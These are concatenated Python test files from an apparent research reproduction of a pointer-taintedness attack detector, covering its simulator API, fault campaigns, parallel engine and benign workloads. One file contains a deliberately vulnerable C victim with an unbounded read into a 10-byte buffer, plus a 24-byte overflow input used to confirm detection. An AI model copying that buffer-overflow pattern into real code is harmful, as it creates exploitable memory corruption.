class TestCampaignDigestPin:
    """The end-to-end statement: every configuration reproduces the pin."""

    def _digest(self, **overrides) -> str:
        config = CampaignConfig(seed=11, trials=25, **overrides)
        campaign = FaultCampaign(builtin_workload("exp3"), config)
        return campaign.run().digest()

    def test_delta_restore_matches_legacy_full_copy(self):
        assert self._digest() == DIGEST_PIN
        assert (
            self._digest(delta_restore=False, fast_triggers=False)
            == DIGEST_PIN
        )

    def test_fast_triggers_match_legacy_injector(self):
        assert self._digest(fast_triggers=False) == DIGEST_PIN

    def test_pin_holds_in_label_mode(self):
        assert self._digest(taint_labels=True) == DIGEST_PIN

    def test_pin_holds_without_superblocks(self):
        assert self._digest(superblocks=False) == DIGEST_PIN

    @pytest.mark.parametrize("workers", (2, 8))
    def test_pin_holds_across_worker_pools(self, workers):
        assert self._digest(workers=workers) == DIGEST_PIN
