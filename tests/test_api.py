"""The stable facade: Session round-trips, unified schema, builder."""

import io
import json

import pytest

import repro
from repro.api import (
    ENGINES,
    POLICIES,
    Session,
    TraceConfig,
    resolve_policy,
    validate_result_json,
)
from repro.attacks.replay import run_minic as legacy_run_minic
from repro.builder import build_machine
from repro.cli import main as cli_main
from repro.core.policy import NullPolicy, PointerTaintPolicy
from repro.fault import CampaignConfig, FaultCampaign, builtin_workload
from repro.libc.build import build_program

VICTIM = """
int main(void) {
    char buf[10];
    scan_string(buf);
    puts("returned");
    return 0;
}
"""
ATTACK = b"a" * 24


class TestPolicyResolution:
    def test_aliases_cover_cli_choices(self):
        for alias in ("paper", "pointer-taintedness", "control-data", "none"):
            assert alias in POLICIES
            assert resolve_policy(alias) is not None

    def test_instance_and_factory_and_none(self):
        policy = NullPolicy()
        assert resolve_policy(policy) is policy
        assert (resolve_policy(PointerTaintPolicy).name
                == PointerTaintPolicy().name)
        assert resolve_policy(None).name == "pointer-taintedness"

    def test_unknown_alias_rejected(self):
        with pytest.raises(ValueError, match="unknown policy"):
            resolve_policy("no-such-policy")


class TestBuilder:
    def test_machine_is_fully_wired(self):
        exe = build_program("int main(void) { return 5; }")
        sim, kernel = build_machine(exe)
        assert sim.syscall_handler is kernel
        assert sim.run() == 5

    def test_builder_matches_legacy_detection(self):
        from repro.core.detector import SecurityException

        sim, _ = build_machine(
            build_program(VICTIM), PointerTaintPolicy(), stdin=ATTACK
        )
        with pytest.raises(SecurityException):
            sim.run()
        assert sim.stats.alerts == 1


class TestSessionRuns:
    def test_facade_matches_legacy_on_attack(self):
        legacy = legacy_run_minic(VICTIM, PointerTaintPolicy(), stdin=ATTACK)
        facade = Session(policy="paper").run_minic(VICTIM, stdin=ATTACK)
        assert facade.detected and legacy.detected
        assert facade.outcome == legacy.outcome
        assert facade.alert.pointer_value == legacy.alert.pointer_value
        assert facade.alert.pc == legacy.alert.pc
        assert facade.stdout == legacy.stdout

    def test_facade_matches_legacy_on_benign(self):
        legacy = legacy_run_minic(VICTIM, PointerTaintPolicy(), stdin=b"bob")
        facade = Session().run_minic(VICTIM, stdin=b"bob")
        assert facade.outcome == legacy.outcome == "exit"
        assert facade.exit_status == legacy.exit_status

    def test_per_call_policy_override(self):
        session = Session(policy="paper")
        unprotected = session.run_minic(VICTIM, policy="none", stdin=ATTACK)
        assert not unprotected.detected

    def test_pipeline_engine(self):
        result = Session(engine="pipeline").run_minic(VICTIM, stdin=ATTACK)
        assert result.detected
        assert result.pstats is not None and result.pstats.cycles > 0

    def test_unknown_engine_rejected(self):
        with pytest.raises(ValueError, match="unknown engine"):
            Session(engine="warp")
        assert ENGINES == ("functional", "pipeline")

    def test_metrics_accumulate_across_runs(self):
        session = Session(metrics=True)
        first = session.run_minic(VICTIM, stdin=b"x")
        count_1 = first.metrics["counters"]["run.instructions"]
        second = session.run_minic(VICTIM, stdin=b"x")
        count_2 = second.metrics["counters"]["run.instructions"]
        assert count_2 == 2 * count_1
        assert second.metrics["timers"]["run.wall_seconds"]["count"] == 2

    def test_metrics_off_leaves_result_unstamped(self):
        result = Session().run_minic(VICTIM, stdin=b"x")
        assert result.metrics is None

    def test_metrics_do_not_change_detection(self):
        bare = Session().run_minic(VICTIM, stdin=ATTACK)
        measured = Session(
            metrics=True, trace=True
        ).run_minic(VICTIM, stdin=ATTACK)
        assert measured.detected == bare.detected
        assert measured.alert.pc == bare.alert.pc
        assert (
            measured.metrics["counters"]["run.instructions"]
            == bare.sim.stats.instructions
        )


class TestSessionCampaign:
    def test_digest_matches_raw_campaign(self):
        config = CampaignConfig(seed=3, trials=6)
        raw = FaultCampaign(builtin_workload("exp1"), config).run()
        # Instrumentation must not perturb the seeded fault schedule.
        facade = Session(metrics=True).run_campaign(
            builtin="exp1", seed=3, trials=6
        )
        assert facade.digest() == raw.digest()
        assert facade.metrics["counters"]["campaign.trials"] == 6

    def test_source_workload(self):
        result = Session().run_campaign(
            "int main(void) { char b[16]; read(0, b, 8); return 0; }",
            stdin=b"ABCDEFGH",
            seed=1,
            trials=4,
        )
        assert sum(result.counts.values()) == 4

    def test_needs_exactly_one_target(self):
        session = Session()
        with pytest.raises(ValueError, match="exactly one"):
            session.run_campaign()
        with pytest.raises(ValueError, match="exactly one"):
            session.run_campaign("int main(void){return 0;}", builtin="exp1")


class TestUnifiedSchema:
    def test_run_result_json(self):
        result = Session(metrics=True).run_minic(VICTIM, stdin=ATTACK)
        payload = validate_result_json(result.to_json())
        assert payload["kind"] == "run"
        assert payload["detected"] is True
        assert payload["stats"]["instructions"] > 0
        assert payload["metrics"]["counters"]["run.alerts"] == 1
        json.dumps(payload)  # must be serializable

    def test_campaign_result_json(self):
        result = Session(metrics=True).run_campaign(
            builtin="exp1", seed=3, trials=5
        )
        payload = validate_result_json(result.to_json())
        assert payload["kind"] == "campaign"
        assert payload["digest"] == payload["stats"]["digest"]
        assert payload["stats"]["trials"] == 5
        json.dumps(payload)

    def test_experiment_result_json(self):
        result = Session(metrics=True).run_experiment("fig2", render=False)
        payload = validate_result_json(result.to_json())
        assert payload["kind"] == "experiment"
        assert payload["detected"] is True
        assert payload["metrics"]["counters"]["run.instructions"] > 0
        json.dumps(payload)

    def test_pipeline_run_json_carries_stall_breakdown(self):
        result = Session(engine="pipeline").run_minic(VICTIM, stdin=b"x")
        stats = result.to_json()["stats"]
        assert stats["cycles"] > stats["instructions"] > 0
        assert "cpi" in stats and "fetch_stalls" in stats

    def test_validator_rejects_bad_payloads(self):
        with pytest.raises(ValueError):
            validate_result_json({"kind": "run"})
        with pytest.raises(ValueError, match="kind"):
            validate_result_json(
                {"kind": "nope", "detected": True,
                 "stats": {}, "metrics": {}}
            )
        with pytest.raises(ValueError, match="must be a dict"):
            validate_result_json([1, 2, 3])

    def test_error_envelope_accepted(self):
        payload = validate_result_json({
            "kind": "error",
            "reason": "queue_full",
            "error": {"type": "QueueFull", "message": "64 pending"},
            "job": {"id": "j1", "seq": 0, "queue_ms": 1.5, "exec_ms": 0.0,
                    "retries": 0},
        })
        assert payload["error"]["type"] == "QueueFull"
        # Minimal form: no reason, no job.
        validate_result_json({
            "kind": "error",
            "error": {"type": "ValueError", "message": ""},
        })

    def test_malformed_error_envelopes_rejected(self):
        good = {"type": "E", "message": "m"}
        for bad in (
            {"kind": "error"},  # no error block at all
            {"kind": "error", "error": "boom"},  # not a dict
            {"kind": "error", "error": {"message": "m"}},  # missing type
            {"kind": "error", "error": {"type": "", "message": "m"}},
            {"kind": "error", "error": {"type": "E", "message": 3}},
            {"kind": "error", "error": good, "reason": ""},
            {"kind": "error", "error": good, "reason": 7},
        ):
            with pytest.raises(ValueError, match="schema"):
                validate_result_json(bad)

    def test_malformed_job_envelopes_rejected(self):
        base = {"kind": "error", "error": {"type": "E", "message": "m"}}
        for job in (
            "j1",  # not a dict
            {"seq": 0},  # missing id
            {"id": ""},  # empty id
            {"id": "j1", "queue_ms": -1},
            {"id": "j1", "exec_ms": "fast"},
            {"id": "j1", "retries": -2},
            {"id": "j1", "retries": 1.5},
        ):
            with pytest.raises(ValueError, match="job"):
                validate_result_json(dict(base, job=job))

    def test_malformed_stats_limit_rejected(self):
        base = {"kind": "run", "detected": False, "metrics": {}}
        for limit in (
            "wallclock",  # not a dict
            {"instructions": 5},  # missing reason
            {"reason": "tea_break", "instructions": 5},
            {"reason": "wallclock", "instructions": -1},
        ):
            with pytest.raises(ValueError, match="limit"):
                validate_result_json(
                    dict(base, stats={"outcome": "limit", "limit": limit})
                )

    def test_cli_run_json_validates(self, tmp_path):
        victim = tmp_path / "victim.c"
        victim.write_text(VICTIM)
        json_path = tmp_path / "run.json"
        code = cli_main(
            [
                "run", str(victim),
                "--stdin-text", "a" * 24,
                "--json", str(json_path),
                "--metrics",
            ],
            out=io.StringIO(),
        )
        assert code == 2
        payload = validate_result_json(json.loads(json_path.read_text()))
        assert payload["metrics"]["counters"]["run.alerts"] == 1

    def test_cli_campaign_json_validates(self, tmp_path):
        json_path = tmp_path / "campaign.json"
        code = cli_main(
            [
                "campaign", "--builtin", "exp1",
                "--seed", "3", "--trials", "5",
                "--json", str(json_path),
            ],
            out=io.StringIO(),
        )
        assert code == 0
        payload = validate_result_json(json.loads(json_path.read_text()))
        assert payload["kind"] == "campaign"


class TestSessionExperiments:
    def test_fig1_static_artifact(self):
        result = Session().run_experiment("fig1")
        assert not result.detected
        assert result.stats["memory_corruption_share_pct"] > 50
        assert "67" in result.report

    def test_unknown_experiment_rejected(self):
        with pytest.raises(ValueError, match="unknown experiment"):
            Session().run_experiment("table99")

    def test_experiment_timer_recorded(self):
        session = Session(metrics=True)
        session.run_experiment("fig1", render=False)
        dump = session.metrics.to_dict()
        assert dump["timers"]["experiment.fig1.seconds"]["count"] == 1


class TestLegacyShims:
    def test_legacy_entry_points_importable(self):
        # The pre-facade API keeps working for existing callers.
        assert repro.run_minic is legacy_run_minic
        assert callable(repro.run_executable)
        assert repro.RunResult is not None
        assert repro.Session is Session
        assert repro.TraceConfig is TraceConfig

    def test_legacy_positional_policy_still_works(self):
        result = repro.run_minic(VICTIM, NullPolicy(), stdin=ATTACK)
        assert not result.detected
