"""Table 3 substrate: the benign SPEC-like workloads run alert-free."""

import pytest

from repro.apps.spec import SPEC_WORKLOADS, workload_by_name
from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.evalx.experiments import run_table3


@pytest.fixture(scope="module")
def workload_results():
    """Run every workload once per test module (they are deterministic)."""
    results = {}
    for workload in SPEC_WORKLOADS:
        results[workload.name] = run_minic(
            workload.source, PointerTaintPolicy(), stdin=workload.make_input()
        )
    return results


class TestWorkloadsRunClean:
    @pytest.mark.parametrize("name", [w.name for w in SPEC_WORKLOADS])
    def test_exits_without_alert(self, workload_results, name):
        result = workload_results[name]
        assert result.outcome == "exit", f"{name}: {result.describe()}"
        assert result.sim.stats.alerts == 0

    @pytest.mark.parametrize("name", [w.name for w in SPEC_WORKLOADS])
    def test_no_tainted_dereference_even_uncounted(self, workload_results, name):
        """Not only no alerts: no tainted pointer was ever dereferenced."""
        assert workload_results[name].sim.stats.tainted_dereferences == 0

    @pytest.mark.parametrize("name", [w.name for w in SPEC_WORKLOADS])
    def test_consumes_external_input(self, workload_results, name):
        """The study is only meaningful if tainted data flows through."""
        stats = workload_results[name].sim.stats
        assert stats.input_bytes_tainted > 100
        assert stats.tainted_results > 0


class TestWorkloadCorrectness:
    def test_bzip2_roundtrip_lossless(self, workload_results):
        assert "errors=0" in workload_results["BZIP2"].stdout

    def test_gcc_compiles_all_expressions(self, workload_results):
        assert "60 expressions" in workload_results["GCC"].stdout
        assert "push" in workload_results["GCC"].stdout

    def test_gzip_finds_matches(self, workload_results):
        stdout = workload_results["GZIP"].stdout
        assert "matches=" in stdout
        matches = int(stdout.split("matches=")[1].split()[0])
        assert matches > 0  # highly repetitive input must compress

    def test_mcf_assignment_complete(self, workload_results):
        assert "18 rows" in workload_results["MCF"].stdout

    def test_parser_balanced_corpus(self, workload_results):
        assert "unbalanced=0" in workload_results["PARSER"].stdout

    def test_vpr_anneals(self, workload_results):
        stdout = workload_results["VPR"].stdout
        assert "220 iterations" in stdout
        accepted = int(stdout.split("accepted")[0].split(",")[-1])
        assert accepted > 0

    def test_crafty_searches_deep(self, workload_results):
        stdout = workload_results["CRAFTY"].stdout
        assert "6 games" in stdout
        nodes = int(stdout.split("nodes")[0].split(",")[-1])
        assert nodes > 1000  # depth-5 negamax must expand a real tree

    def test_gap_reaches_whole_graph(self, workload_results):
        stdout = workload_results["GAP"].stdout
        assert "90 nodes" in stdout
        reached = int(stdout.split("reached")[0].split(",")[-1])
        assert reached == 90  # the backbone makes the graph connected

    def test_vortex_transaction_mix(self, workload_results):
        stdout = workload_results["VORTEX"].stdout
        for marker in ("inserts", "hits", "deletes"):
            count = int(stdout.split(marker)[0].split(",")[-1].split(":")[-1])
            assert count > 0, f"no {marker} executed"


class TestTable3Runner:
    def test_rows_and_totals(self):
        rows = run_table3(workloads=SPEC_WORKLOADS[:2])
        assert [r.name for r in rows] == ["BZIP2", "GCC"]
        for row in rows:
            assert row.alerts == 0
            assert row.instructions > 10_000
            assert row.program_bytes > 1_000
            assert row.input_bytes > 0

    def test_registry_lookup(self):
        assert workload_by_name("gcc").name == "GCC"
        with pytest.raises(KeyError):
            workload_by_name("SPICE")
