"""Parallel trial engine: digest invariance, crash retry, pool plumbing.

The contract under test (DESIGN.md section 4e): campaign digests,
outcome counts, and experiment tables are byte-identical for every
worker count at a fixed seed -- the pool buys wall-clock, never changes
a record -- and a dying worker degrades to an in-parent serial retry,
never a hang or a different digest.
"""

import io
import json
import multiprocessing

import pytest

from repro.api import Session, validate_result_json
from repro.cli import main as cli_main
from repro.fault import (
    CampaignConfig,
    FaultCampaign,
    FaultSpec,
    Trigger,
    Workload,
)
from repro.obs.metrics import MetricsRegistry
from repro.parallel import (
    ParallelExecutionError,
    fan_out,
    plan_chunks,
    resolve_workers,
)
from repro.parallel.engine import POISON_ENV

# Cheap victim with tainted input and a heap pointer: every outcome
# class reachable, golden run small enough for many-trial tests.
MINI_SOURCE = r"""
int main(void) {
    char buf[16];
    int *p;
    int v;
    int i;
    read(0, buf, 8);
    p = malloc(16);
    p[0] = 5;
    v = 0;
    i = 0;
    while (i < 40) {
        v = v + p[0] + buf[i % 8];
        i = i + 1;
    }
    printf("v=%d\n", v);
    return 0;
}
"""

MINI = Workload(name="mini", source=MINI_SOURCE, stdin=b"abcdefgh")

fork_only = pytest.mark.skipif(
    "fork" not in multiprocessing.get_all_start_methods(),
    reason="crash seam kills fork workers via os._exit",
)


def mini_campaign(trials=12, **config_kwargs):
    return FaultCampaign(
        MINI, CampaignConfig(seed=11, trials=trials, **config_kwargs)
    )


class TestPlanChunks:
    def test_covers_every_index_exactly_once(self):
        for n_items, workers in [(1, 1), (7, 2), (30, 4), (100, 16)]:
            chunks = plan_chunks(n_items, workers)
            indices = [i for start, stop in chunks for i in range(start, stop)]
            assert indices == list(range(n_items))

    def test_contiguous_and_nonempty(self):
        chunks = plan_chunks(30, 4)
        assert all(stop > start for start, stop in chunks)
        assert all(
            chunks[i][1] == chunks[i + 1][0] for i in range(len(chunks) - 1)
        )

    def test_chunk_count_bounds(self):
        # Never more chunks than items, never more than workers * factor.
        assert len(plan_chunks(3, 8)) == 3
        assert len(plan_chunks(1000, 2, chunks_per_worker=4)) == 8

    def test_deterministic(self):
        assert plan_chunks(97, 5) == plan_chunks(97, 5)

    def test_empty_plan(self):
        assert plan_chunks(0, 4) == []

    def test_rejects_zero_workers(self):
        with pytest.raises(ValueError):
            plan_chunks(10, 0)


class TestResolveWorkers:
    def test_zero_means_per_core(self):
        import os

        assert resolve_workers(0) == (os.cpu_count() or 1)

    def test_identity_above_zero(self):
        assert resolve_workers(3) == 3

    def test_negative_rejected(self):
        with pytest.raises(ValueError):
            resolve_workers(-1)

    def test_campaign_config_validates(self):
        with pytest.raises(ValueError):
            CampaignConfig(workers=-2)
        assert CampaignConfig(workers=0).resolved_workers() >= 1


class TestFanOut:
    def test_results_in_task_order(self):
        results, info = fan_out(_double, [5, 1, 9, 3], workers=2)
        assert results == [10, 2, 18, 6]
        assert info.workers == 2

    def test_serial_when_one_worker(self):
        results, info = fan_out(_double, [1, 2, 3], workers=1)
        assert results == [2, 4, 6]
        assert info.worker_crashes == 0

    def test_caps_workers_at_task_count(self):
        _, info = fan_out(_double, [1], workers=8)
        assert info.workers == 1

    def test_deterministic_failure_raises_structured_error(self):
        with pytest.raises(ParallelExecutionError) as excinfo:
            fan_out(_fail_on_seven, [1, 7, 3], workers=2)
        assert excinfo.value.task_index == 1
        assert "retry" in str(excinfo.value)

    def test_pool_metrics_recorded(self):
        registry = MetricsRegistry()
        fan_out(_double, [1, 2, 3, 4], workers=2, registry=registry)
        dump = registry.to_dict()
        assert dump["gauges"]["parallel.workers"] == 2
        assert dump["counters"]["parallel.tasks.dispatched"] == 4


def _double(x):
    return 2 * x


def _fail_on_seven(x):
    if x == 7:
        raise RuntimeError("poisoned task")
    return x


class TestDigestInvariance:
    def test_workers_never_change_the_digest(self):
        serial = mini_campaign(workers=1).run()
        assert serial.parallel is None
        for workers in (2, 8):
            parallel = mini_campaign(workers=workers).run()
            assert parallel.digest() == serial.digest()
            assert parallel.counts == serial.counts
            assert parallel.parallel is not None
            assert parallel.parallel["workers"] == workers

    def test_explicit_schedule_parity(self):
        golden = FaultCampaign(MINI, CampaignConfig(trials=0)).run().golden
        mid = golden.instructions // 2
        schedule = [
            (Trigger("insn", mid), FaultSpec("reg", reg, 1 << reg))
            for reg in range(1, 9)
        ]
        serial = FaultCampaign(
            MINI, CampaignConfig(trials=0, workers=1), schedule=schedule
        ).run()
        parallel = FaultCampaign(
            MINI, CampaignConfig(trials=0, workers=2), schedule=schedule
        ).run()
        assert parallel.digest() == serial.digest()

    def test_parallel_requires_snapshot_reuse(self):
        campaign = mini_campaign(workers=2, reuse_snapshots=False)
        with pytest.raises(ValueError, match="reuse_snapshots"):
            campaign.run()

    def test_pool_stats_never_enter_the_digest(self):
        result = mini_campaign(workers=2).run()
        stats = result.to_json()["stats"]
        assert stats["parallel"]["chunks"] >= 1
        assert stats["digest"] == mini_campaign(workers=1).run().digest()


@fork_only
class TestWorkerCrash:
    def test_poisoned_chunk_retried_serially_with_same_digest(
        self, monkeypatch
    ):
        serial = mini_campaign(workers=1).run()
        monkeypatch.setenv(POISON_ENV, "5")
        registry = MetricsRegistry()
        campaign = FaultCampaign(
            MINI,
            CampaignConfig(seed=11, trials=12, workers=2),
            registry=registry,
        )
        result = campaign.run()
        assert result.digest() == serial.digest()
        assert result.counts == serial.counts
        dump = registry.to_dict()
        assert dump["counters"]["parallel.worker_crashes"] >= 1
        assert dump["counters"]["parallel.chunk_retries"] >= 1
        assert result.parallel["worker_crashes"] >= 1

    def test_poison_never_kills_the_parent(self, monkeypatch):
        # Serial runs execute in-parent, where the seam must be inert.
        monkeypatch.setenv(POISON_ENV, "0")
        result = mini_campaign(workers=1).run()
        assert len(result.records) == 12


class TestSessionAndCli:
    def test_facade_threads_workers_and_pool_metrics(self):
        session = Session(metrics=True)
        result = session.run_campaign(
            workload=MINI, seed=11, trials=12, workers=2
        )
        payload = validate_result_json(result.to_json())
        assert payload["stats"]["parallel"]["workers"] == 2
        dump = session.metrics.to_dict()
        assert dump["counters"]["parallel.trials.dispatched"] == 12
        assert any(
            name.startswith("parallel.worker.")
            and name.endswith(".busy_seconds")
            for name in dump["timers"]
        )

    def test_cli_parallel_json_matches_serial(self, tmp_path):
        digests = {}
        for workers in (1, 2):
            path = tmp_path / f"campaign-j{workers}.json"
            code = cli_main(
                [
                    "campaign", "--builtin", "exp3", "--seed", "7",
                    "--trials", "20", "-j", str(workers),
                    "--json", str(path),
                ],
                out=io.StringIO(),
            )
            assert code == 0
            payload = validate_result_json(json.loads(path.read_text()))
            digests[workers] = payload["digest"]
            if workers > 1:
                assert payload["stats"]["parallel"]["workers"] == workers
            else:
                assert "parallel" not in payload["stats"]
        assert digests[1] == digests[2]

    def test_cli_report_parallel_byte_identical(self):
        serial, parallel = io.StringIO(), io.StringIO()
        assert cli_main(["report", "table4"], out=serial) == 0
        assert cli_main(["report", "table4", "-j", "2"], out=parallel) == 0
        assert parallel.getvalue() == serial.getvalue()


class TestParallelSchemaValidation:
    def _payload(self, parallel):
        return {
            "kind": "campaign",
            "detected": True,
            "stats": {"parallel": parallel},
            "metrics": {},
        }

    def test_good_shape_passes(self):
        validate_result_json(
            self._payload({"workers": 2, "chunks": 8, "wall_s": 0.5})
        )

    @pytest.mark.parametrize(
        "bad",
        [
            {"workers": 0, "chunks": 1, "wall_s": 0.0},
            {"workers": 2, "chunks": 0, "wall_s": 0.0},
            {"workers": 2, "chunks": 1, "wall_s": -1},
            {"workers": True, "chunks": 1, "wall_s": 0.0},
            {"workers": 2, "chunks": 1},
            {"chunks": 1, "wall_s": 0.0},
            "not-a-dict",
        ],
    )
    def test_bad_shapes_rejected(self, bad):
        with pytest.raises(ValueError, match="parallel"):
            validate_result_json(self._payload(bad))


class TestExperimentParity:
    def test_table4_rows_identical(self):
        from repro.evalx import experiments

        assert experiments.run_table4(workers=2) == experiments.run_table4()

    def test_fig2_report_byte_identical(self):
        from repro.evalx import experiments

        assert experiments.report_fig2(workers=2) == experiments.report_fig2()

    def test_experiment_metrics_match_serial(self):
        from repro.evalx import experiments

        serial, parallel = MetricsRegistry(), MetricsRegistry()
        s = experiments.run_synthetic_detections(registry=serial)
        p = experiments.run_synthetic_detections(registry=parallel, workers=2)
        assert p == s
        serial_counters = serial.to_dict()["counters"]
        parallel_counters = {
            name: value
            for name, value in parallel.to_dict()["counters"].items()
            if not name.startswith("parallel.")
        }
        assert parallel_counters == serial_counters


class TestRegistryAbsorb:
    def test_counters_and_timers_add(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.counter("x").inc(3)
        b.counter("x").inc(4)
        b.timer("t").add(0.5)
        a.absorb(b.to_dict())
        assert a.counter("x").value == 7
        assert a.timer("t").count == 1
        assert a.timer("t").seconds == pytest.approx(0.5)

    def test_gauges_last_write_wins(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.gauge("g").set(1.0)
        b.gauge("g").set(9.0)
        a.absorb(b.to_dict())
        assert a.gauge("g").value == 9.0

    def test_histograms_merge_bucketwise(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        edges = (1, 2, 4)
        for value in (1, 3):
            a.histogram("h", edges).observe(value)
        for value in (2, 8):
            b.histogram("h", edges).observe(value)
        a.absorb(b.to_dict())
        merged = a.histogram("h", edges)
        assert merged.count == 4
        assert merged.min == 1
        assert merged.max == 8
        assert sum(merged.buckets) == 4

    def test_histogram_edge_mismatch_rejected(self):
        a, b = MetricsRegistry(), MetricsRegistry()
        a.histogram("h", (1, 2)).observe(1)
        b.histogram("h", (1, 2, 4)).observe(1)
        with pytest.raises(ValueError, match="edges"):
            a.absorb(b.to_dict())

    def test_absorb_order_reproduces_serial_counters(self):
        serial = MetricsRegistry()
        serial.counter("n").inc(1)
        serial.counter("n").inc(2)
        merged = MetricsRegistry()
        for amount in (1, 2):
            worker = MetricsRegistry()
            worker.counter("n").inc(amount)
            merged.absorb(worker.to_dict())
        assert merged.counter("n").value == serial.counter("n").value
