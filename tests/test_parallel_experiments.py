"""Crash-retry coverage for the experiment-row pool.

PR 5's poisoned-worker seam (``REPRO_PARALLEL_POISON_INDEX``) was only
exercised through campaign chunks; these tests drive it through the
artifact-row path -- ``Session.run_experiment(..., workers=2)`` and
``repro report -j2`` -- and pin the invariant that a worker crash
degrades to an in-parent retry with **row-identical** output.
"""

import io
import multiprocessing

import pytest

from repro.api import Session
from repro.cli import main as cli_main
from repro.obs.metrics import MetricsRegistry
from repro.parallel.engine import POISON_ENV
from repro.parallel.experiments import run_experiment_units

fork_only = pytest.mark.skipif(
    "fork" not in multiprocessing.get_all_start_methods(),
    reason="crash seam kills fork workers via os._exit",
)


def _without_timing(payload: dict) -> dict:
    stats = {k: v for k, v in payload["stats"].items()
             if k != "elapsed_seconds"}
    return dict(payload, stats=stats, metrics={})


@fork_only
class TestPoisonedExperimentRows:
    def test_unit_fan_out_retries_the_poisoned_row(self, monkeypatch):
        registry = MetricsRegistry()
        serial = run_experiment_units("fig2", 3, workers=1)
        monkeypatch.setenv(POISON_ENV, "1")
        poisoned = run_experiment_units(
            "fig2", 3, workers=2, registry=registry
        )
        assert poisoned == serial
        counters = registry.to_dict()["counters"]
        assert counters["parallel.experiment.fig2.worker_crashes"] >= 1
        assert counters["parallel.experiment.fig2.chunk_retries"] >= 1

    def test_session_run_experiment_is_row_identical(self, monkeypatch):
        serial = Session().run_experiment("fig2", render=True, workers=1)
        monkeypatch.setenv(POISON_ENV, "1")
        poisoned = Session().run_experiment("fig2", render=True, workers=2)
        assert poisoned.report == serial.report
        assert _without_timing(poisoned.to_json()) == _without_timing(
            serial.to_json()
        )

    def test_cli_report_j2_output_identical(self, monkeypatch):
        serial_out = io.StringIO()
        assert cli_main(["report", "fig2"], out=serial_out) == 0
        monkeypatch.setenv(POISON_ENV, "0")
        poisoned_out = io.StringIO()
        assert cli_main(["report", "fig2", "-j", "2"],
                        out=poisoned_out) == 0
        assert poisoned_out.getvalue() == serial_out.getvalue()

    def test_poison_never_kills_the_parent(self, monkeypatch):
        monkeypatch.setenv(POISON_ENV, "0")
        payloads = run_experiment_units("table4", 2, workers=2)
        assert len(payloads) == 2
