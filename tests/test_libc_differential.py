"""Differential property tests: simulated libc vs. Python reference.

Hypothesis drives the MiniC/assembly implementations with random inputs
and compares against Python's semantics (C-adjusted where they differ).
Each case compiles a fresh driver program and runs it on the simulated
machine, so these tests sweep the whole stack: compiler, assembler,
simulator, taint machinery, and the library code itself.
"""

from fnmatch import fnmatchcase

from hypothesis import HealthCheck, given, settings, strategies as st

from repro.apps.ftpglob import FTPGLOB_SOURCE
from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy

_slow = settings(
    max_examples=12, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)

# Text strategies: printable, no whitespace/quotes/backslash so the values
# embed in source and survive line-based input functions.
_WORD = st.text(
    alphabet=st.sampled_from(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-"
    ),
    min_size=0,
    max_size=12,
)


def _quoted(text: str) -> str:
    return '"' + text + '"'


class TestStringDifferential:
    @given(_WORD)
    @_slow
    def test_strlen(self, text):
        result = run_minic(
            f'int main(void) {{ return strlen({_quoted(text)}); }}'
        )
        assert result.exit_status == len(text)

    @given(_WORD, _WORD)
    @_slow
    def test_strcmp_sign(self, a, b):
        result = run_minic(
            "int main(void) { int r; "
            f"r = strcmp({_quoted(a)}, {_quoted(b)});"
            ' if (r < 0) { return 1; } if (r > 0) { return 2; } return 0; }'
        )
        expected = 0 if a == b else (1 if a < b else 2)
        assert result.exit_status == expected

    @given(_WORD, _WORD)
    @_slow
    def test_strstr_agrees_with_find(self, haystack, needle):
        result = run_minic(
            "int main(void) { char *p; "
            f"p = strstr({_quoted(haystack)}, {_quoted(needle)});"
            f' if (p == 0) {{ return 200; }} return p - {_quoted(haystack)}; }}'
        )
        index = haystack.find(needle)
        assert result.exit_status == (200 if index < 0 else index)

    @given(st.integers(-99999, 99999), st.text(
        alphabet=st.sampled_from(" \t"), max_size=3))
    @_slow
    def test_atoi(self, value, padding):
        result = run_minic(
            "int main(void) { "
            f'printf("%d", atoi("{padding}{value}xyz")); return 0; }}'
        )
        assert result.stdout == str(value)

    @given(st.integers(-(2**31), 2**31 - 1))
    @_slow
    def test_printf_decimal_and_hex(self, value):
        result = run_minic(
            f'int main(void) {{ printf("%d %x", {value}, {value}); '
            "return 0; }"
        )
        expected_hex = format(value & 0xFFFFFFFF, "x")
        assert result.stdout == f"{value} {expected_hex}"

    @given(st.integers(0, 2**31 - 1))
    @_slow
    def test_printf_unsigned(self, value):
        result = run_minic(
            f'int main(void) {{ printf("%u", {value}); return 0; }}'
        )
        assert result.stdout == str(value)


class TestGlobDifferential:
    """The MiniC glob matcher vs. Python's fnmatch on the same pattern."""

    _NAMES = ("readme", "notes", "budget", "todo")

    _PATTERN = st.lists(
        st.one_of(
            st.sampled_from(["*", "?"]),
            st.sampled_from(list("abdegmnorstu")),
        ),
        min_size=0,
        max_size=6,
    ).map("".join)

    @given(_PATTERN)
    @settings(max_examples=15, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    def test_glob_match_agrees_with_fnmatch(self, pattern):
        from repro.kernel.network import ScriptedClient

        result = run_minic(
            FTPGLOB_SOURCE,
            PointerTaintPolicy(),
            clients=[ScriptedClient(
                [b"LIST " + pattern.encode() + b"\n", b"QUIT\n"]
            )],
        )
        assert result.outcome == "exit", result.describe()
        listing = bytes(result.clients[0].transcript).decode().split("\r\n")[1]
        matched = [name for name in listing.split(" ") if name]
        expected = [
            name for name in self._NAMES if fnmatchcase(name, pattern)
        ]
        assert matched == expected
