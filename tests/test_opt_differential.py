"""-O0 vs -O1 differential: the optimizer must never change a verdict.

Three corpora drive the comparison:

* every synthetic and real-world attack scenario (attack + benign runs),
* the Table-3 SPEC-shaped workloads (benign, instruction-count sensitive),
* a seeded fuzz corpus of small random MiniC programs, checked on both
  the functional and the pipelined execution engine.

The observable contract is (outcome, detected, exit_status, stdout);
alert *pcs* legitimately differ because -O1 emits different code.
The PAC site contract is stricter: every function must keep the same
number of sign and auth sites at both levels, or the comparator defense
would silently lose coverage under the optimizer.
"""

import random
import re
from collections import Counter

import pytest

from repro.apps.spec import SPEC_WORKLOADS
from repro.apps.synthetic import exp1_scenario
from repro.attacks.replay import run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.experiments import all_attack_scenarios
from repro.libc.build import build_program

